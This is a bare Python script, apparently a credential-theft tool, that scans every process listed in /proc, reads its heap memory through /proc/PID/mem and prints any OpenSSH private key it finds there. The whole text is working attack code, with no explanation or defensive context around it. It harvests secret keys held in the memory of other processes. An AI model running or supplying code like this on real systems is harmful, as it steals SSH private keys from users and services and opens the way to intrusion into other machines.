import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb")
        for l in maps:
            if "heap" in l:
                a, b = (int(x, 16) for x in l.split()[0].split("-"))
                mem.seek(a); d = mem.read(b - a)
                if b"BEGIN OPENSSH" in d: print(pid, d[d.find(b"BEGIN"):][:2000])
    except OSError: pass
